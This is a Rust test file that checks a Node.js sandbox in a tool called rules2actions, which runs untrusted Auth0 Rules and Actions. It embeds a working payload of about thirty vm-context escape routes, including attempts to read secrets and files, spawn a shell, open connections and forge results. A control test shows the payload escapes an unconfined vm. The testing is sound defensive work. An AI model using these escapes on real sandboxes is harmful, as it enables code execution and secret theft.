//! `verify` runs untrusted code (issue 15): every known way out of the harness's `vm` context is
//! tried by a rule or an Action run through the real binary, and must reach nothing. The canaries:
//! an environment variable set for `verify`, a file outside the runtime's folder to read, a path to
//! write, a marker a spawned shell would create, a TCP listener on loopback, the verdict a forged
//! answer would change, and the time and memory a run may take. Skipped, with a note, when
//! Node.js is missing.

mod common;

use common::node_available;
use rules2actions::verify::runner::{Runtime, Side};
use serde_json::Value;
use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_rules2actions");
const CANARY_VAR: &str = "R2A_SANDBOX_CANARY";
/// Far more than a run needs in a debug build, far less than a hang.
const DEADLINE: Duration = Duration::from_secs(60);

fn skip_without_node(test: &str) -> bool {
    if node_available() {
        return false;
    }
    eprintln!("note: {test} skipped: Node.js is not on PATH");
    true
}

/// What an escaped run would touch, in a folder of the test's own.
struct Canaries {
    dir: PathBuf,
    secret: String,
    file: PathBuf,
    write_target: PathBuf,
    spawn_marker: PathBuf,
    listener: TcpListener,
}

impl Canaries {
    fn new(name: &str) -> Canaries {
        let dir = std::env::temp_dir().join(format!("r2a-sandbox-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let secret = format!("canary-{name}-{}", u64::from(std::process::id()) * 7919);
        let file = dir.join("canary.txt");
        std::fs::write(&file, &secret).unwrap();
        // A module `require` must never load: it would hand the secret over.
        std::fs::write(dir.join("canary.js"), format!("module.exports = {secret:?};")).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Canaries {
            write_target: dir.join("written.txt"),
            spawn_marker: dir.join("spawned.txt"),
            dir,
            secret,
            file,
            listener,
        }
    }

    /// The JS that, given a candidate `Function` constructor or `process`, tries everything.
    fn payload(&self) -> String {
        PAYLOAD
            .replace("$FILE", &js_string(&self.file))
            .replace("$WRITE", &js_string(&self.write_target))
            .replace("$MARKER", &js_string(&self.spawn_marker))
            .replace("$PORT", &self.listener.local_addr().unwrap().port().to_string())
            .replace("$VAR", CANARY_VAR)
            .replace("$CANARY_JS", &js_string(&self.dir.join("canary.js")))
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.dir.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }

    /// Nothing the canaries watch was reached; `output` is all `verify` printed.
    fn assert_untouched(&self, output: &str) {
        assert!(!output.contains(&self.secret), "a canary leaked:\n{output}");
        assert!(
            !self.write_target.exists(),
            "the sandbox wrote {}",
            self.write_target.display()
        );
        assert!(!self.spawn_marker.exists(), "the sandbox spawned a process");
        assert!(self.listener.accept().is_err(), "the sandbox opened a connection");
    }
}

impl Drop for Canaries {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn js_string(path: &Path) -> String {
    Value::String(path.display().to_string()).to_string()
}

/// Tries each route: a candidate `Function` constructor (or `process`) of the harness's realm. A
/// route that yields the real `process` tries the canaries, and forges an answer.
const PAYLOAD: &str = r#"
function probe(routes) {
  const out = {};
  for (const [name, route] of Object.entries(routes)) {
    let found;
    try { found = route(); } catch (e) { out[name] = 'contained: ' + String(e && e.message); continue; }
    let proc = found;
    if (typeof found === 'function') {
      try { proc = found('return process')(); } catch (e) { out[name] = 'contained: ' + String(e && e.message); continue; }
    }
    if (!proc || typeof proc.pid !== 'number' || typeof proc.getBuiltinModule !== 'function') { out[name] = 'contained: no real process'; continue; }
    out[name] = 'ESCAPED: ' + tryEverything(proc);
  }
  return out;
}
function tryEverything(proc) {
  const got = [];
  const attempt = (label, fn) => { try { got.push(label + '=' + String(fn())); } catch (e) { got.push(label + ' refused ' + e.code); } };
  attempt('env', () => proc.env.$VAR);
  attempt('file', () => proc.getBuiltinModule('fs').readFileSync($FILE, 'utf8'));
  attempt('write', () => proc.getBuiltinModule('fs').writeFileSync($WRITE, 'x'));
  attempt('spawn', () => proc.getBuiltinModule('child_process').execFileSync('/bin/sh', ['-c', 'touch ' + $MARKER]));
  attempt('net', () => proc.getBuiltinModule('net').connect($PORT, '127.0.0.1').on('error', () => {}));
  attempt('forge', () => proc.getBuiltinModule('fs').writeSync(1, '0'.repeat(32) + ' {"effects":{}}\n'));
  return got.join(', ');
}
function frames() {
  let captured;
  const previous = Error.prepareStackTrace;
  Error.prepareStackTrace = (e, f) => { captured = f; return ''; };
  try { null.x; } catch (e) { e.stack; }
  Error.prepareStackTrace = previous;
  return captured;
}
// Node calls EventEmitter.prototype.emit on `process` for an unhandled rejection: replace it,
// reached through a crypto Hash (a stream), and through require('events').
let emittedBy = null;
function watchEmit() {
  let proto = require('crypto').createHash('sha256');
  while (proto && !Object.prototype.hasOwnProperty.call(proto, 'emit')) proto = Object.getPrototypeOf(proto);
  for (const target of [proto, require('events').prototype]) {
    const emit = target.emit;
    try { target.emit = function (...a) { if (this && this.pid) emittedBy = this; return emit.apply(this, a); }; } catch (e) {}
  }
  Promise.reject(new Error('unhandled, on purpose'));
}
const COMMON_ROUTES = {
  'EventEmitter.prototype.emit': () => emittedBy || 'nothing emitted to user code',
  'global this': () => (function () { return this; })().constructor.constructor,
  'require': () => require.constructor,
  'console.log': () => console.log.constructor,
  'setTimeout': () => setTimeout.constructor,
  'setTimeout handle': () => setTimeout(() => {}, 0).constructor.constructor,
  'process.nextTick': () => process.nextTick.constructor,
  'process global': () => process,
  'Buffer': () => Buffer.constructor,
  'Buffer instance': () => Buffer.from('x').constructor.constructor,
  'URL': () => URL.constructor,
  'TextEncoder instance': () => new TextEncoder().constructor.constructor,
  'structuredClone': () => structuredClone({}).constructor.constructor,
  'fetch': () => fetch.constructor,
  'error thrown by Node': () => { try { Buffer.alloc(-1); } catch (e) { return e.constructor.constructor; } },
  'Error.prepareStackTrace frames': () => frames().constructor.constructor,
  'call site getFunction': () => frames().map((f) => f.getFunction()).find(Boolean).constructor,
  'call site getThis': () => frames().map((f) => f.getThis()).find((t) => t && t !== globalThis).constructor.constructor,
  'module': () => module.constructor.constructor,
  'real module (crypto)': () => require('crypto').constructor.constructor,
  'stub module prototype': () => Object.getPrototypeOf(require('not-installed-pkg')).constructor,
  'axios stub': () => require('axios').get.constructor,
  'require of a path': () => require($CANARY_JS),
  'require relative': () => require('./canary.js'),
  'harness call slot': () => __r2a_call.constructor,
  'inspect hook': () => { let F; console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (d, o, inspect) => { F = inspect.constructor; } }); return F; },
};
"#;

/// Runs `verify --format json` on one scenario; panics past the deadline.
fn verify(canaries: &Canaries, rule: &Path, action: &Path, timeout_ms: u64) -> (Value, String, Duration) {
    let scenarios = canaries.write(
        "scenarios.json",
        &format!(
            r#"{{ "scenarios": [{{ "name": "one", "timeout_ms": {timeout_ms},
                "http": [{{ "url_prefix": "https://api.example.com/", "body": {{ "ok": true }} }}] }}] }}"#
        ),
    );
    let started = Instant::now();
    let mut child = Command::new(BIN)
        .arg("verify")
        .arg(rule)
        .arg("--action")
        .arg(action)
        .arg("--scenarios")
        .arg(&scenarios)
        .args(["--format", "json"])
        .env(CANARY_VAR, &canaries.secret)
        .current_dir(&canaries.dir)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("running rules2actions");
    let (mut stdout, mut stderr) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let err_reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let out_reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stdout.read_to_string(&mut text);
        text
    });
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > DEADLINE {
            let _ = child.kill();
            panic!("verify did not finish within {DEADLINE:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let elapsed = started.elapsed();
    let (stdout, stderr) = (out_reader.join().unwrap(), err_reader.join().unwrap());
    let document = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}\n{stdout}\n{stderr}"));
    (document, format!("{stdout}\n{stderr}"), elapsed)
}

/// The value one side gave to a field that differs, in the scenario `verify` was given.
fn differing(document: &Value, field: &str, side: &str) -> Value {
    document["files"][0]["scenarios"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|s| s["name"] == "one")
        .flat_map(|s| s["differences"].as_array().into_iter().flatten())
        .find(|d| d["field"] == field)
        .map(|d| d[side].clone())
        .unwrap_or_else(|| panic!("no difference {field}:\n{document:#}"))
}

const PLAIN_RULE: &str = "function (user, context, callback) { callback(null, user, context); }\n";
const PLAIN_ACTION: &str = "exports.onExecutePostLogin = async (event, api) => {};\n";

/// Every route's result must say `contained`; at least `routes` of them ran.
fn assert_contained(results: &Value, routes: usize) {
    let results = results
        .as_object()
        .unwrap_or_else(|| panic!("no route results: {results}"));
    assert!(
        results.len() >= routes,
        "only {} routes ran: {results:#?}",
        results.len()
    );
    for (route, result) in results {
        let result = result.as_str().unwrap_or_default();
        eprintln!("  {route}: {result}");
        assert!(result.starts_with("contained"), "route {route}: {result}");
    }
}

#[test]
fn escape_routes_from_a_rule_reach_nothing() {
    if skip_without_node("escape_routes_from_a_rule_reach_nothing") {
        return;
    }
    let canaries = Canaries::new("rule");
    let rule = canaries.write(
        "escape.rule.js",
        &format!(
            "{}\nwatchEmit();
module.exports = function (user, context, callback) {{
  const routes = Object.assign({{}}, COMMON_ROUTES, {{
    'callback': () => callback.constructor,
    'arguments.callee.caller': () => arguments.callee.caller.constructor,
    'auth0 method': () => auth0.users.updateAppMetadata.constructor,
    'Rules global getter': () => Object.getOwnPropertyDescriptor(globalThis, 'request').get.constructor,
    'configuration': () => configuration.constructor.constructor,
  }});
  setTimeout(() => {{ context.idToken.routes = probe(routes); callback(null, user, context); }}, 50);
}};\n",
            canaries.payload()
        ),
    );
    let action = canaries.write("plain.js", PLAIN_ACTION);
    let (document, output, _) = verify(&canaries, &rule, &action, 3000);
    assert_contained(&differing(&document, "id_token_claims.routes", "rule"), 31);
    canaries.assert_untouched(&output);
}

#[test]
fn escape_routes_from_an_action_reach_nothing() {
    if skip_without_node("escape_routes_from_an_action_reach_nothing") {
        return;
    }
    let canaries = Canaries::new("action");
    let rule = canaries.write("plain.rule.js", PLAIN_RULE);
    let action = canaries.write(
        "escape.js",
        &format!(
            "{}\nwatchEmit();
exports.onExecutePostLogin = async (event, api) => {{
  await new Promise((ok) => setTimeout(ok, 50));
  const response = await fetch('https://api.example.com/a');
  const pending = require('got')('https://api.example.com/b');
  const routes = Object.assign({{}}, COMMON_ROUTES, {{
    'fetch response method': () => response.json.constructor,
    'fetch response headers': () => response.headers.get.constructor,
    'got promise method': () => pending.json.constructor,
    'api method': () => api.access.deny.constructor,
    'api object': () => api.constructor.constructor,
    'api chain result': () => api.idToken.setCustomClaim('x', 1).constructor.constructor,
    'event': () => event.constructor.constructor,
    'api.cache result': () => api.cache.set('k', 'v').constructor.constructor,
  }});
  api.idToken.setCustomClaim('routes', probe(routes));
}};\n",
            canaries.payload()
        ),
    );
    let (document, output, _) = verify(&canaries, &rule, &action, 3000);
    assert_contained(&differing(&document, "id_token_claims.routes", "action"), 34);
    canaries.assert_untouched(&output);
}

/// The payload does escape a `vm` context run the way the harness used to run it: the routes
/// above test something real.
#[test]
fn the_payload_escapes_an_unconfined_vm() {
    if skip_without_node("the_payload_escapes_an_unconfined_vm") {
        return;
    }
    let canaries = Canaries::new("control");
    let script = canaries.write(
        "control.js",
        &format!(
            "const vm = require('vm');
const sandbox = {{ Buffer, console: {{ log: (...a) => console.log(...a) }} }};
const code = {payload:?} + \"; JSON.stringify(probe({{ 'global this': COMMON_ROUTES['global this'], 'Buffer': COMMON_ROUTES['Buffer'] }}))\";
console.log(vm.runInNewContext(code, sandbox));
process.exit(0);",
            payload = canaries.payload()
        ),
    );
    let output = Command::new("node")
        .arg(&script)
        .env(CANARY_VAR, &canaries.secret)
        .current_dir(&canaries.dir)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("ESCAPED"),
        "{stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(stdout.contains(&canaries.secret), "{stdout}");
    assert!(canaries.spawn_marker.exists());
}

#[test]
fn a_forged_answer_does_not_make_a_different_action_identical() {
    if skip_without_node("a_forged_answer_does_not_make_a_different_action_identical") {
        return;
    }
    let canaries = Canaries::new("forge");
    let rule = canaries.write("plain.rule.js", PLAIN_RULE);
    // Through every route, print what an allowed login's answer looks like; make the harness's
    // realm serialise every object as that answer (Object.prototype.toJSON, reached through a
    // Buffer) or encode every string as it (Buffer.from, shared with the harness); then deny.
    let action = canaries.write(
        "forge.js",
        &format!(
            "{}\nconst ALLOWED = {{ effects: {{ outcome: {{ decision: 'allow', message: null }}, finished: true, error: null,
  mfa: null, id_token_claims: {{}}, access_token_claims: {{}}, scopes: null, app_metadata: {{}}, user_metadata: {{}},
  redirect: null, primary_user: null, saml: {{}}, unsupported: [], http_requests: [] }} }};
const harnessObject = Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(Buffer.from('x')))));
try {{ harnessObject.toJSON = function () {{ return ALLOWED; }}; }} catch (e) {{ /* frozen */ }}
const from = Buffer.from.bind(Buffer);
try {{ Buffer.from = () => from(' ' + JSON.stringify(ALLOWED) + '\\n'); }} catch (e) {{ /* frozen */ }}
exports.onExecutePostLogin = async (event, api) => {{
  probe(COMMON_ROUTES);
  console.log('0'.repeat(32) + ' ' + JSON.stringify(ALLOWED));
  api.access.deny('forged');
}};\n",
            canaries.payload()
        ),
    );
    let (document, output, _) = verify(&canaries, &rule, &action, 3000);
    assert_eq!(document["files"][0]["verdict"], "different", "{output}");
    assert_eq!(differing(&document, "outcome", "action")["message"], "forged");
    canaries.assert_untouched(&output);
}

#[test]
fn memory_is_capped() {
    if skip_without_node("memory_is_capped") {
        return;
    }
    let canaries = Canaries::new("memory");
    let rule = canaries.write("plain.rule.js", PLAIN_RULE);
    let buffers = canaries.write(
        "buffers.js",
        "exports.onExecutePostLogin = async (event, api) => {
  const held = [];
  try { for (let i = 0; i < 6; i++) held.push(Buffer.alloc(1 << 30)); } catch (e) { /* refused */ }
  api.idToken.setCustomClaim('gib', held.length);
};\n",
    );
    let (document, output, _) = verify(&canaries, &rule, &buffers, 5000);
    let gib = differing(&document, "id_token_claims.gib", "action");
    assert!(gib.as_u64().is_some_and(|n| n <= 1), "{gib} GiB allocated:\n{output}");
    let heap = canaries.write(
        "heap.js",
        "exports.onExecutePostLogin = async () => { const a = []; for (;;) a.push(new Array(1e5).fill(Math.random())); };\n",
    );
    let (document, output, _) = verify(&canaries, &rule, &heap, 20000);
    let error = differing(&document, "finished", "action");
    assert_eq!(error, false, "{output}");
    assert!(output.contains("out of memory"), "{output}");
}

#[test]
fn a_run_that_blocks_is_killed_at_its_limit() {
    if skip_without_node("a_run_that_blocks_is_killed_at_its_limit") {
        return;
    }
    let canaries = Canaries::new("block");
    let rule = canaries.write("plain.rule.js", PLAIN_RULE);
    let action = canaries.write(
        "block.js",
        "exports.onExecutePostLogin = async () => { await null; for (;;) {} };\n",
    );
    let (document, output, elapsed) = verify(&canaries, &rule, &action, 500);
    assert_eq!(differing(&document, "finished", "action"), false, "{output}");
    assert!(output.contains("node was killed"), "{output}");
    assert!(elapsed < Duration::from_secs(15), "took {elapsed:?}");
}

#[cfg(unix)]
#[test]
fn the_runtime_folder_is_private_and_the_harness_read_only() {
    use std::os::unix::fs::PermissionsExt;
    if skip_without_node("the_runtime_folder_is_private_and_the_harness_read_only") {
        return;
    }
    let runtime = Runtime::new("node".as_ref()).expect("node");
    let code = runtime.write_code(Side::Rule, "secret code").unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = code.parent().unwrap();
    // Others may at most pass through the folder (root runs node as nobody), never list it.
    assert_eq!(mode(dir) & 0o066, 0, "folder mode {:o}", mode(dir));
    assert_eq!(mode(&code), 0o600);
    assert_eq!(mode(&dir.join("harness.js")) & 0o222, 0, "the harness is writable");
    drop(runtime);
    assert!(!dir.exists(), "the runtime folder outlived the runtime");
}

/// Packages load by bare name from the packages folder only, under the permission model's read
/// allowance; without a folder they are stubs.
#[test]
fn packages_load_by_bare_name_from_the_packages_folder_only() {
    if skip_without_node("packages_load_by_bare_name_from_the_packages_folder_only") {
        return;
    }
    let canaries = Canaries::new("packages");
    let package = canaries.dir.join("node_modules/r2a-greeting");
    std::fs::create_dir_all(package.join("lib")).unwrap();
    std::fs::write(package.join("index.js"), "module.exports = require('./lib/hello');").unwrap();
    std::fs::write(package.join("lib/hello.js"), "module.exports = (n) => 'hello ' + n;").unwrap();
    let action = "const greet = require('r2a-greeting');
exports.onExecutePostLogin = async (event, api) => {
  const greeting = typeof greet === 'function' ? greet('there') : null;
  api.idToken.setCustomClaim('greeting', typeof greeting === 'string' ? greeting : 'stub');
};\n";
    let claims = |runtime: &Runtime| {
        let code = runtime.write_code(Side::Action, action).unwrap();
        match runtime.run(Side::Action, &code, &serde_json::json!({}), 2000) {
            rules2actions::verify::runner::RunOutput::Effects(effects) => serde_json::to_value(effects).unwrap(),
            other => panic!("{other:?}"),
        }
    };
    let with = Runtime::new("node".as_ref())
        .unwrap()
        .with_packages(Some(canaries.dir.clone()))
        .unwrap();
    let effects = claims(&with);
    assert_eq!(effects["id_token_claims"]["greeting"], "hello there", "{effects}");
    let without = Runtime::new("node".as_ref()).unwrap();
    let effects = claims(&without);
    assert_eq!(effects["id_token_claims"]["greeting"], "stub", "{effects}");
    assert_eq!(effects["unsupported"], serde_json::json!(["require(r2a-greeting)"]));
}
